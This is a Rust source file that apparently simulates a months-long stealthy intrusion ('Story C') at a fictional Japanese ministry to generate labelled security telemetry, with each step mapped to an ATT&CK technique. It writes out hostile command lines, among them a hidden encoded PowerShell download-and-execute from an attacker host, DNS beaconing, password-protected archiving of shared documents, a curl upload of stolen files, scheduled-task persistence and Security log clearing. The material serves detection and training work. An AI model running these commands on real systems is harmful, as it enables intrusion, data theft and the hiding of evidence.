//! Story C, 静かな潮: months of quiet at 産業通商省.
//!
//! One desk that is never switched off runs a small program which asks the name service every 3,607 seconds. Every few
//! weeks it packs documents of the file server with a password and sends them away; once it visits a Linux server.

use super::number;
use crate::clock::{DAY, HOUR, MINUTE, Millis, SECOND, midnight};
use crate::deed::{Actor, Deed, Parent, Planned, Script};
use crate::event::Mark;
use crate::hosts::{Host, Role};
use crate::nation::THREAD;
use crate::odd::encoded;
use crate::programs::Code;
use crate::random::Random;
use crate::windows::Account;
use crate::world::World;
use jiff::civil::Date;

/// The days of story C.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct QuietIntruder {
    /// The hole in the management software is used, the beacon begins.
    pub entry: Date,
    /// Documents are first packed so many days after the entry.
    pub first_staging: u16,
    /// And again every so many days.
    pub staging_every: u16,
    /// The intruder clears the log and goes.
    pub last: Date,
}

/// Seconds between two beacons.
pub const BEACON: Millis = 3607 * SECOND;
const DOMAIN: &str = "shiosai.example";
/// The desk: KEIZAI-PC018, never switched off.
const DESK: u16 = 23;
const KANRI: &str = "jousys-kanri";

const fn mark(ja: &'static str, en: &'static str, technique: &'static str, expected: bool) -> Mark {
    Mark { story: "C", ja, en, technique, expected }
}
const ENTRY: Mark =
    mark("機器管理ソフトの穴の悪用", "using the hole in the management software", "T1210", false);
const LAUNCH: Mark = mark("隠した符号化PowerShell", "hidden, encoded PowerShell", "T1059.001", true);
const FETCH: Mark = mark("常駐プログラムの取り寄せ", "fetching the resident program", "T1105", false);
const RESIDE: Mark = mark("常駐プログラムの起動", "the resident program starts", "T1036.005", false);
const TASK: Mark =
    mark("公開フォルダのタスク登録", "a task that runs a program from a public folder", "T1053.005", true);
const BEACONS: Mark = mark("DNSによる定期の合図", "beacon through DNS", "T1071.004", true);
const GROUPS: Mark = mark("管理者グループの調査", "asking who administers the domain", "T1069.002", true);
const SHARE: Mark = mark("共有フォルダの閲覧", "reading the shared folders", "T1039", false);
const STAGE: Mark = mark("合言葉つき圧縮での集積", "packing with a password", "T1560.001", true);
const STAGED: Mark = mark("集積したファイルの保存", "writing the packed files", "T1074.001", false);
const SEND: Mark = mark("集積したファイルの持ち出し", "sending the packed files away", "T1041", false);
const HOP: Mark = mark("Linuxサーバへの接続", "signing in to a Linux server", "T1021.004", false);
const PACK: Mark = mark("Linuxでの集積", "packing on Linux", "T1560.001", false);
const UPLOAD: Mark = mark("curlによる持ち出し", "uploading with curl", "T1048.003", true);
const CLEAR: Mark = mark("ログの消去", "clearing the log", "T1070.001", true);

const MANAGER: Actor = Actor(200, Code::KawasemiManager);
const RESIDENT: Actor = Actor(201, Code::SyncTool);
const SHELL: Actor = Actor(202, Code::Cmd);
const LAUNCHER: Actor = Actor(203, Code::PowerShell);
const ONCE: u16 = 204;

impl QuietIntruder {
    pub(super) fn deeds(&self, world: &World, index: usize, day: i64) -> Vec<Planned> {
        let (entry, last) = (number(self.entry), number(self.last));
        if world.organisation != "keizai" || !(entry..=last).contains(&day) {
            return Vec::new();
        }
        let host = &world.hosts[index];
        let staging = self.staging_on(day - entry);
        if host.role == Role::Files && staging {
            return read_shares(&world.hosts[usize::from(DESK)], midnight(day));
        }
        if host.number != DESK {
            return Vec::new();
        }
        let mut random = Random::stream(world.seed, &[world.number, day as u64, 0xc]);
        let first = midnight(entry) + 14 * HOUR;
        let until = if day == last { midnight(day) + 4 * HOUR } else { midnight(day) + DAY };
        let mut deeds = beacons(first, (midnight(day), until), &mut random);
        if day == entry {
            deeds.extend(enter(midnight(day) + 13 * HOUR + 22 * MINUTE, &mut random));
        }
        if day == entry + 1 {
            deeds.extend(ask(midnight(day) + 10 * HOUR + 12 * MINUTE));
        }
        if staging {
            deeds.extend(stage(midnight(day) + 2 * HOUR + 10 * MINUTE, (day - entry) as u64, &mut random));
        }
        if day == last {
            deeds.extend(go(midnight(day) + 4 * HOUR + 40 * MINUTE));
        }
        deeds
    }

    fn staging_on(&self, since: i64) -> bool {
        let (first, every) = (i64::from(self.first_staging), i64::from(self.staging_every.max(1)));
        since >= first && (since - first) % every == 0
    }

    /// On the first day of staging one Linux server is visited by night.
    pub(super) fn linux_deeds(&self, world: &World, index: usize, day: i64) -> Vec<Planned> {
        let visited = number(self.entry) + i64::from(self.first_staging);
        if world.organisation != "keizai" || index != 0 || day != visited || day > number(self.last) {
            return Vec::new();
        }
        let from = world.hosts[usize::from(DESK)].address.clone();
        let run = |arguments: &[&str]| Deed::Run {
            directory: "/var/tmp",
            arguments: arguments.iter().map(|argument| String::from(*argument)).collect(),
        };
        let mut script = Script::at(midnight(day) + 2 * HOUR + 51 * MINUTE);
        script
            .mark(HOP)
            .add(Deed::Login { from })
            .wait(20 * SECOND)
            .add(run(&["id"]))
            .wait(40 * SECOND)
            .mark(PACK)
            .add(run(&["tar", "czf", "/var/tmp/.kw.tgz", "/srv/share/審議会 資料"]))
            .wait(90 * SECOND)
            .mark(UPLOAD)
            .add(run(&["curl", "-s", "-T", "/var/tmp/.kw.tgz", &format!("http://{THREAD}/u/kw.tgz")]))
            .wait(30 * SECOND)
            .mark(HOP)
            .add(run(&["rm", "-f", "/var/tmp/.kw.tgz"]));
        script.deeds
    }
}

fn results() -> String {
    format!("type:  16 ;::ffff:{THREAD};")
}

/// A name with one long label, as a program makes it that sends data in its questions.
fn question(random: &mut Random) -> String {
    const DIGITS: &[u8; 32] = b"abcdefghijklmnopqrstuvwxyz234567";
    let label: String = (0..52).map(|_| char::from(DIGITS[random.below(32) as usize])).collect();
    format!("{label}.{DOMAIN}")
}

fn beacons(first: Millis, (from, until): (Millis, Millis), random: &mut Random) -> Vec<Planned> {
    let done = (from - first + BEACON - 1).div_euclid(BEACON).max(0);
    let mut script = Script::at(first + done * BEACON);
    script.mark(BEACONS);
    for time in (first + done * BEACON..until).step_by(BEACON as usize) {
        let deed = Deed::LookUp { actor: RESIDENT, name: question(random), results: results() };
        script.deeds.push(Planned { time: time + random.between(0, 400), deed, mark: Some(BEACONS) });
    }
    script.deeds
}

fn enter(time: Millis, random: &mut Random) -> Vec<Planned> {
    let system = Account::System;
    let image = Code::SyncTool.image();
    let work =
        format!("(New-Object Net.WebClient).DownloadFile('http://{THREAD}/kw.bin','{image}'); & '{image}'");
    let launch = format!("powershell.exe -nop -w hidden -enc {}", encoded(&work));
    let mut script = Script::at(time);
    script
        .mark(ENTRY)
        .start(SHELL, Parent::Actor(MANAGER), (system, r"C:\Windows\system32\cmd.exe /c %TEMP%\kw.cmd"))
        .wait(400)
        .mark(LAUNCH)
        .start(LAUNCHER, Parent::Actor(SHELL), (system, &launch))
        .wait(900)
        .mark(FETCH)
        .add(Deed::Script { text: work, path: String::new() })
        .wait(200)
        .add(Deed::Connect { actor: LAUNCHER, address: THREAD.into(), name: String::new(), port: 80 })
        .wait(1800)
        .add(Deed::File { actor: LAUNCHER, path: image.into() })
        .wait(300)
        .mark(RESIDE)
        .start(RESIDENT, Parent::Actor(LAUNCHER), (system, image))
        .wait(2 * SECOND)
        .end(LAUNCHER)
        .end(SHELL)
        .wait(4 * MINUTE);
    stay(&mut script, random);
    script.deeds
}

/// A task brings the program back after a restart; the first question tries the way out.
fn stay(script: &mut Script, random: &mut Random) {
    let (system, image) = (Account::System, Code::SyncTool.image());
    let create = format!("schtasks /create /f /sc hourly /tn KawasemiSync /tr {image} /ru SYSTEM");
    let lookup = format!("nslookup -type=TXT {} {THREAD}", question(random));
    let (scheduler, asker) = (Actor(ONCE, Code::Schtasks), Actor(ONCE + 1, Code::Nslookup));
    script
        .mark(TASK)
        .start(scheduler, Parent::Actor(RESIDENT), (system, &create))
        .wait(70)
        .add(Deed::Task {
            account: system,
            name: r"\KawasemiSync".into(),
            command: image.into(),
            arguments: String::new(),
        })
        .wait(90)
        .end(scheduler)
        .wait(6 * MINUTE)
        .mark(BEACONS)
        .start(asker, Parent::Actor(RESIDENT), (system, &lookup))
        .wait(SECOND)
        .end(asker);
}

fn ask(time: Millis) -> Vec<Planned> {
    let (first, second) = (Actor(ONCE, Code::Net), Actor(ONCE + 1, Code::Net));
    let mut script = Script::at(time);
    script
        .mark(GROUPS)
        .run(first, Parent::Actor(RESIDENT), (Account::System, r#"net group "Domain Admins" /domain"#), 600)
        .wait(2 * MINUTE)
        .mark(SHARE)
        .run(second, Parent::Actor(RESIDENT), (Account::System, r"net view \\KEIZAI-FS01"), 500);
    script.deeds
}

fn stage(time: Millis, since: u64, random: &mut Random) -> Vec<Planned> {
    let system = Account::System;
    let (rar, seven) = (Actor(ONCE, Code::Rar), Actor(ONCE + 1, Code::SevenZip));
    let password = random.letters(12);
    let folder = r"C:\ProgramData\KwCache";
    let first = format!(
        r#"rar.exe a -hp{password} -m5 -v50m {folder}\k{since:03}.rar "\\KEIZAI-FS01\kyoyu\審議会 資料""#
    );
    let second =
        format!(r#"7z.exe a -p{password} -mhe=on {folder}\m{since:03}.7z "\\KEIZAI-FS01\kyoyu\通商""#);
    let mut script = Script::at(time);
    script
        .mark(SHARE)
        .add(Deed::Explicit { actor: RESIDENT, user: KANRI, server: "KEIZAI-FS01".into() })
        .wait(40 * SECOND)
        .mark(STAGE)
        .start(rar, Parent::Actor(RESIDENT), (system, &first))
        .mark(STAGED);
    for part in 1..=2 {
        script
            .wait(90 * SECOND)
            .add(Deed::File { actor: rar, path: format!(r"{folder}\k{since:03}.part{part}.rar") });
    }
    script
        .wait(10 * SECOND)
        .end(rar)
        .wait(4 * MINUTE)
        .mark(STAGE)
        .start(seven, Parent::Actor(RESIDENT), (system, &second))
        .wait(MINUTE)
        .mark(STAGED)
        .add(Deed::File { actor: seven, path: format!(r"{folder}\m{since:03}.7z") })
        .end(seven)
        .wait(11 * MINUTE)
        .mark(SEND)
        .add(Deed::Connect { actor: RESIDENT, address: THREAD.into(), name: String::new(), port: 443 });
    script.deeds
}

/// The file server sees an ordinary logon.
fn read_shares(desk: &Host, start: Millis) -> Vec<Planned> {
    let mut script = Script::at(start + 2 * HOUR + 10 * MINUTE + SECOND);
    script
        .mark(SHARE)
        .add(Deed::LogOn {
            user: KANRI.into(),
            kind: 3,
            from: desk.address.clone(),
            workstation: desk.short.clone(),
        })
        .wait(1)
        .add(Deed::Special { user: KANRI.into() });
    script.deeds
}

fn go(time: Millis) -> Vec<Planned> {
    let system = Account::System;
    let (scheduler, cleaner) = (Actor(ONCE, Code::Schtasks), Actor(ONCE + 1, Code::Wevtutil));
    let mut script = Script::at(time);
    script
        .mark(RESIDE)
        .run(scheduler, Parent::Actor(RESIDENT), (system, "schtasks /delete /f /tn KawasemiSync"), 200)
        .wait(20 * SECOND)
        .mark(CLEAR)
        .start(cleaner, Parent::Actor(RESIDENT), (system, "wevtutil cl Security"))
        .wait(100)
        .add(Deed::Cleared { account: system })
        .wait(60)
        .end(cleaner)
        .wait(SECOND)
        .end(RESIDENT);
    script.deeds
}
